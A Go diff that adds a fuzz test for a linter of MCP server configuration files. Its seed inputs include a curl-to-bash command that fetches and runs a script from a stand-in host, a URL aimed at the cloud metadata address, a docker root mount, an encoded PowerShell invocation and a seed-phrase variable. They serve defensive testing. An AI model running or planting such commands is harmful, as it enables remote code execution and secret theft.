@@ -57,3 +57,40 @@ func FuzzLint(f *testing.F) {
 		}
 	})
 }
+
+// FuzzServer puts any texts into the fields of a server, so that the checks behind the parser see
+// more than broken documents.
+func FuzzServer(f *testing.F) {
+	f.Add("sh", "-c", "eval \"$(curl -s https://x.tld/i.sh)\" | bash <(base64 -d)", "API_KEY", "${A:-${B:-x}} {{y}} <z> %A% $B", "http:\\\\u:p@0xA9FEA9FE:80/sse?token=%zz")
+	f.Add("docker run -itv/:/h -eA=b -p8080:80 --mount type=bind,src=C:\\,ro img:1@sha256:x npx -y a", "", "", "NODE_OPTIONS", "-r x", "ws://[::1")
+	f.Add("env -S 'A=b timeout 3 uvx --from git+https://x@y#z --with a,b cmd'", "--", "npx c", "URL", "postgres://a:b/c@d", "https://xn--a")
+	f.Add("cmd /c powershell -enc", "x", "@a/b@npm:c@1.2", "SEED_PHRASE", "a b c d e f g h i j k l", "${X}")
+	f.Fuzz(func(t *testing.T, command, first, second, name, value, url string) {
+		doc, err := json.Marshal(map[string]any{"mcpServers": map[string]any{name: map[string]any{
+			"command": command, "args": []string{first, second}, "env": map[string]string{name: value}, "url": url,
+			"headers": map[string]string{"Authorization": value}, "autoApprove": []string{first}}}})
+		if err != nil || len(doc) > 64<<10 {
+			return
+		}
+		result, err := lint.Lint(doc)
+		if err != nil {
+			t.Fatal(err)
+		}
+		raw, err := json.Marshal(result)
+		if err != nil || !json.Valid(raw) {
+			t.Fatalf("%v", err)
+		}
+		again, err := lint.Lint(doc)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if second, _ := json.Marshal(again); string(second) != string(raw) {
+			t.Fatalf("two answers:\n%s\n%s", raw, second)
+		}
+		for _, finding := range result.Findings {
+			if len(finding.Message) > 300 || len(finding.Hint) > 300 {
+				t.Fatalf("%+v", finding)
+			}
+		}
+	})
+}
